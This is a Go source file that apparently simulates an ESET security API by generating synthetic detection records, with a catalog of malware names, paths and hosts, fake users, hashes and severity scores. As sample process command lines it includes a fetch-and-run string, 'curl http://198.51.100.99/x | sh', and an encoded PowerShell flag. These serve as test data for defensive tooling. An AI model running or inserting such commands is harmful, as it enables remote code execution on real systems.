package simulator

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"github.com/eset-community/terraform-provider-eset/internal/esetapi"
)

// threat is a kind of detection, for the systems of one family.
type threat struct {
	family     int64
	name       string
	category   string // v1 name; v2 says EDR_RULE for CORRELATION_RULE
	severity   string
	objectType string
	object     string // a fmt pattern taking a user name
	process    string
}

var catalog = []threat{
	{1, "Win32/Kryptik.HVQT trojan", "DETECTION_CATEGORY_ANTIVIRUS", "SEVERITY_LEVEL_MEDIUM", "File", `file:///C:/Users/%s/Downloads/invoice_2026.exe`, `C:\Program Files\Mozilla Firefox\firefox.exe`},
	{1, "Win64/Mimikatz.B potentially unsafe application", "DETECTION_CATEGORY_ANTIVIRUS", "SEVERITY_LEVEL_HIGH", "File", `file:///C:/Users/%s/AppData/Local/Temp/m64.exe`, `C:\Windows\System32\cmd.exe`},
	{1, "Suspicious PowerShell command line", "DETECTION_CATEGORY_CORRELATION_RULE", "SEVERITY_LEVEL_HIGH", "Process", `file:///C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe?user=%s`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
	{1, "VBA/TrojanDownloader.Agent.ZZQ trojan", "DETECTION_CATEGORY_ANTIVIRUS", "SEVERITY_LEVEL_MEDIUM", "File", `file:///C:/Users/%s/Documents/Q3%%20report.docm`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
	{1, "JS/Adware.Agent.AJ application", "DETECTION_CATEGORY_WEB_ACCESS", "SEVERITY_LEVEL_LOW", "URL", `https://ads.example.net/track.js?u=%s`, `C:\Program Files\Google\Chrome\Application\chrome.exe`},
	{1, "Blocked outbound connection to a known C&C server", "DETECTION_CATEGORY_FIREWALL_RULE", "SEVERITY_LEVEL_INFORMATIONAL", "Network", `tcp://203.0.113.200:443/%s`, `C:\Windows\System32\svchost.exe`},
	{2, "Linux/Mirai.A trojan", "DETECTION_CATEGORY_ANTIVIRUS", "SEVERITY_LEVEL_HIGH", "File", `file:///tmp/.x/%s/mirai.arm`, `/bin/sh`},
	{2, "Linux/CoinMiner.BX potentially unwanted application", "DETECTION_CATEGORY_ANTIVIRUS", "SEVERITY_LEVEL_MEDIUM", "File", `file:///home/%s/.cache/xmrig`, `/usr/bin/bash`},
	{2, "Log4j exploitation attempt (CVE-2021-44228)", "DETECTION_CATEGORY_NETWORK_INTRUSION", "SEVERITY_LEVEL_HIGH", "Network", `http://10.10.0.5:8080/api?user=%s`, `/usr/bin/java`},
	{2, "Reverse shell spawned by a web server", "DETECTION_CATEGORY_CORRELATION_RULE", "SEVERITY_LEVEL_HIGH", "Process", `file:///usr/bin/python3?user=%s`, `/usr/bin/python3`},
	{2, "SSH brute-force attempt", "DETECTION_CATEGORY_NETWORK_INTRUSION", "SEVERITY_LEVEL_MEDIUM", "Network", `ssh://198.51.100.99:22/%s`, `/usr/sbin/sshd`},
	{2, "Vulnerable package openssl 3.0.2", "DETECTION_CATEGORY_VULNERABILITY", "SEVERITY_LEVEL_LOW", "Package", `pkg:deb/ubuntu/openssl@3.0.2?reporter=%s`, ``},
	{3, "OSX/Adware.Pirrit.AA application", "DETECTION_CATEGORY_ANTIVIRUS", "SEVERITY_LEVEL_LOW", "File", `file:///Users/%s/Library/Application%%20Support/pirrit`, `/Applications/Safari.app/Contents/MacOS/Safari`},
	{3, "OSX/Shlayer.F trojan", "DETECTION_CATEGORY_ANTIVIRUS", "SEVERITY_LEVEL_HIGH", "File", `file:///Users/%s/Downloads/FlashPlayer.dmg`, `/usr/bin/hdiutil`},
	{4, "Android/TrojanDropper.Agent.KXP trojan", "DETECTION_CATEGORY_ANTIVIRUS", "SEVERITY_LEVEL_HIGH", "File", `file:///sdcard/Download/%s/update.apk`, ``},
	{7, "Suspicious SUID binary created", "DETECTION_CATEGORY_HIPS", "SEVERITY_LEVEL_MEDIUM", "File", `file:///usr/local/bin/%s-helper`, `/bin/sh`},
}

// threatsOf lists the catalog's threats by OS family.
var threatsOf = func() map[int64][]threat {
	m := map[int64][]threat{}
	for _, t := range catalog {
		m[t.family] = append(m[t.family], t)
	}
	return m
}()

var users = map[int64][]string{
	1: {`CORP\jdoe`, `CORP\amartin`, `CORP\knovak`, `NT AUTHORITY\SYSTEM`},
	2: {"root", "www-data", "deploy"},
	3: {"amartin", "jdoe"},
	4: {"mobile"},
	7: {"root"},
}

// detectionGenerator makes detections on a world's devices; it keeps those it made for incidents.
type detectionGenerator struct {
	rng       *rand.Rand
	devices   []esetapi.Device
	end       time.Time
	generated []esetapi.DetectionDetails
}

// pickIncidentDevice returns the first device of an incident: for three incidents in four one of the hot
// devices, as a few machines draw most incidents in a real tenant, else any device that still syncs.
func (g *detectionGenerator) pickIncidentDevice() *esetapi.Device {
	if g.rng.IntN(4) == 0 {
		return g.pickDevice(true)
	}
	name := hotDevices[g.rng.IntN(len(hotDevices))]
	for i := range g.devices {
		if d := &g.devices[i]; d.DisplayName == name && !isStale(d, g.end) {
			return d
		}
	}
	return g.pickDevice(true)
}

// pickDevice returns a device that may have detections: any but the quiet one, and with active only one
// that still syncs.
func (g *detectionGenerator) pickDevice(active bool) *esetapi.Device {
	for {
		d := &g.devices[g.rng.IntN(len(g.devices))]
		if d.DisplayName != quietDevice && (!active || !isStale(d, g.end)) {
			return d
		}
	}
}

// detection makes a detection on d at t; severity, when not "", overrides the threat's.
func (g *detectionGenerator) detection(d *esetapi.Device, at time.Time, severity string) esetapi.DetectionDetails {
	rng := g.rng
	family := d.OperatingSystem.FamilyID
	candidates := threatsOf[int64(family)]
	t := candidates[rng.IntN(len(candidates))]
	if severity == "" {
		severity = t.severity
	}
	user := pick(rng, users[int64(family)])
	occur := at.Format(time.RFC3339)
	if rng.IntN(3) == 0 { // some records carry fractional seconds
		occur = at.Add(time.Duration(1+rng.IntN(999)) * time.Millisecond).Format(time.RFC3339Nano)
	}
	det := esetapi.DetectionDetails{
		DetectionCommon: esetapi.DetectionCommon{
			UUID: newUUID(rng), DisplayName: t.name, TypeName: "nil", Category: v2Category(t.category),
			SeverityLevel: severity, OccurTime: occur,
			ObjectTypeName: t.objectType, ObjectURL: fmt.Sprintf(t.object, user),
			ObjectHashSHA1: fmt.Sprintf("%016X%016X%08X", rng.Uint64(), rng.Uint64(), rng.Uint32()),
		},
		Device:        esetapi.DetectionDevice{UUID: d.UUID, DisplayName: d.DisplayName},
		UserName:      user,
		Circumstances: "Event occurred during an attempt to access the object.",
		Process:       esetapi.DetectionProcess{Path: t.process},
		SeverityScore: severityScore(rng, severity),
		Resolved:      at.Before(g.end.Add(-24*time.Hour)) && rng.IntN(5) < 2,
	}
	if t.objectType == "File" {
		det.ObjectName = det.ObjectURL[strings.LastIndex(det.ObjectURL, "/")+1:]
		det.ObjectSizeBytes = esetapi.Uint64(1024 + rng.IntN(4<<20))
	}
	if t.category == "DETECTION_CATEGORY_CORRELATION_RULE" {
		det.EdrRuleUUID = newUUID(rng)
	}
	if t.process != "" && rng.IntN(2) == 0 {
		det.Process.CommandLine = t.process + " " + pick(rng, []string{"-enc SQBFAFgA", "--quiet", "-c 'curl http://198.51.100.99/x | sh'", "/S"})
	}
	det.Responses = []esetapi.DetectionResponse{{DisplayName: pick(rng, []string{"cleaned by deleting", "connection terminated", "blocked", "retained"}),
		ProtectionName: "Real-time file system protection", ActionType: "OBJECT_ACTION_TYPE_DELETE"}}
	return det
}

// forIncident makes n detections on devices within the hours before created, the first of severity.
func (g *detectionGenerator) forIncident(devices []*esetapi.Device, created time.Time, n int, severity string) []string {
	uuids := make([]string, n)
	for i := range n {
		s := ""
		if i == 0 {
			s = severity
		}
		at := created.Add(-time.Duration(60+g.rng.IntN(6*3600)) * time.Second)
		det := g.detection(devices[g.rng.IntN(len(devices))], at, s)
		g.generated = append(g.generated, det)
		uuids[i] = det.UUID
	}
	return uuids
}

// background makes n detections that belong to no incident, spread from start to end; the alerted device
// gets a high-severity one 3 hours before end. A stale device's detections precede its last sync.
func (g *detectionGenerator) background(n int, start time.Time) []esetapi.DetectionDetails {
	out := make([]esetapi.DetectionDetails, 0, n)
	for i := range g.devices {
		if g.devices[i].DisplayName == alertedDevice {
			det := g.detection(&g.devices[i], g.end.Add(-3*time.Hour), "SEVERITY_LEVEL_HIGH")
			det.Resolved = false
			out = append(out, det)
			break
		}
	}
	span := g.end.Sub(start)
	for len(out) < n {
		d := g.pickDevice(false)
		last := g.end
		if sync, err := time.Parse(time.RFC3339, d.LastSyncTime); err == nil && sync.Before(start) {
			last = sync
		}
		at := last.Add(-time.Duration(1+g.rng.Int64N(int64(span/time.Second))) * time.Second)
		out = append(out, g.detection(d, at, ""))
	}
	return out
}

func severityScore(rng *rand.Rand, level string) esetapi.Int64 {
	switch level {
	case "SEVERITY_LEVEL_HIGH":
		return esetapi.Int64(60 + rng.IntN(41))
	case "SEVERITY_LEVEL_MEDIUM":
		return esetapi.Int64(50 + rng.IntN(10))
	case "SEVERITY_LEVEL_LOW":
		return esetapi.Int64(20 + rng.IntN(30))
	case "SEVERITY_LEVEL_INFORMATIONAL":
		return esetapi.Int64(1 + rng.IntN(19))
	}
	return 0
}

// v2Category is the v2 name of a v1 category.
func v2Category(v1 string) string {
	if v1 == "DETECTION_CATEGORY_CORRELATION_RULE" {
		return "DETECTION_CATEGORY_EDR_RULE"
	}
	return v1
}

// v1Category is the v1 name of a v2 category.
func v1Category(v2 string) string {
	if v2 == "DETECTION_CATEGORY_EDR_RULE" {
		return "DETECTION_CATEGORY_CORRELATION_RULE"
	}
	return v2
}
